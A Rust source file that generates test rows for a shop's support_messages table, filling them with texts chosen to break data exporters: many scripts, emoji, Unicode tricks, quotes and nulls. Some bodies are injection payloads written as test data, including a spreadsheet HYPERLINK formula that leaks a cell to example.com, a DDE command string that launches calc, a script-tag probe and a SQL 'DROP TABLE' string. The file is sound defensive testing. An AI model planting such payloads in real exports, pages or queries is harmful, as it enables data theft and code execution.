//! What did they write to the help desk? The texts are the ones that break exporters.

use rusqlite::{Transaction, params};

use super::create::{BUSIEST, PEOPLE};
use super::random::{Random, timestamp};

/// Writes `support_messages`. The busiest person wrote every text once, and some before having an account: those rows
/// carry only the e-mail address.
pub(super) fn write(shop: &Transaction<'_>) -> rusqlite::Result<()> {
    let mut desk = Desk {
        insert: shop.prepare("insert into support_messages values (?, ?, ?, ?, ?, ?, ?)")?,
        random: Random::of_table("support_messages"),
        id: 0,
    };
    for customer in 1..=PEOPLE {
        if customer == BUSIEST.id {
            for body in BODIES {
                desk.message(Some(customer), None, body)?;
            }
            for body in [BODIES[0], BODIES[1]] {
                desk.message(None, Some(BUSIEST.email), body)?;
            }
        } else {
            for _ in 0..desk.random.below(4) {
                let body = desk.random.pick(&BODIES);
                desk.message(Some(customer), None, body)?;
            }
        }
    }
    Ok(())
}

struct Desk<'shop> {
    insert: rusqlite::Statement<'shop>,
    random: Random,
    id: u32,
}

impl Desk<'_> {
    fn message(
        &mut self,
        customer: Option<u32>,
        sender: Option<&str>,
        body: &str,
    ) -> rusqlite::Result<()> {
        self.id += 1;
        let rating = self.random.chance(1, 2).then(|| self.random.between(1, 6));
        let subject = self.random.pick(&SUBJECTS);
        let at = timestamp(self.random.moment());
        self.insert.execute(params![self.id, customer, sender, subject, body, rating, at])?;
        Ok(())
    }
}

const SUBJECTS: [Option<&str>; 6] = [
    None,
    Some(""),
    Some("Where is my order?"),
    Some("Re: Re: Fwd:"),
    Some("Ερώτηση"),
    Some("返品"),
];

const BODIES: [&str; 28] = [
    "Hello, my parasol arrived broken. Could you send another one?",
    "Ça ne marche pas : l'écran reste noir, même après l'été à Überlingen. Straße gesperrt!",
    "Καλημέρα, πού βρίσκεται η παραγγελία μου; ΣΑΣ ΕΥΧΑΡΙΣΤΩ.",
    "Здравствуйте, я жду уже неделю. Щедрый жук ждёт чаю.",
    "مرحبا، أين طلبي رقم ١٢٣؟ شكرا على المساعدة.",
    "你好，我的订单还没有到。中文字符也要保留。",
    "こんにちは。日傘の色を変更できますか？ｶﾀｶﾅも。",
    "नमस्ते, मेरा ऑर्डर कहाँ है? क्षमा करें, जल्दी है।",
    "שלום, איפה ההזמנה שלי?",
    "안녕하세요, 주문 상태를 알고 싶어요.",
    "Thanks! 🎉 👍🏽 👩‍👩‍👧‍👦 🇺🇳",
    "Cafe\u{301} and cafe\u{e9} look alike; so do A\u{30a}ngstro\u{308}m and Ångström.",
    "First line\nSecond line\r\nThird line\tafter a tab",
    "She said \"no\", then 'yes', then, after a comma, nothing.",
    "\"starts and ends with a quote\"",
    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")",
    "+1-555-0100 is my number",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*2",
    "   leading and trailing spaces   ",
    "NULL",
    "null",
    "<script>alert('report')</script> & <b>bold</b>",
    "{\"json\": [1, 2, {\"deep\": null}], \"backslash\": \"\\\\\"}",
    "back\\slash, per%cent, semi;colon, `backtick`, ${dollar}",
    "right-to-left \u{202e}override\u{202c} and zero\u{200b}width and \u{feff}mark",
    "separators \u{2028} and \u{2029} and a control \u{1} character",
    "Robert'); DROP TABLE support_messages;--",
];
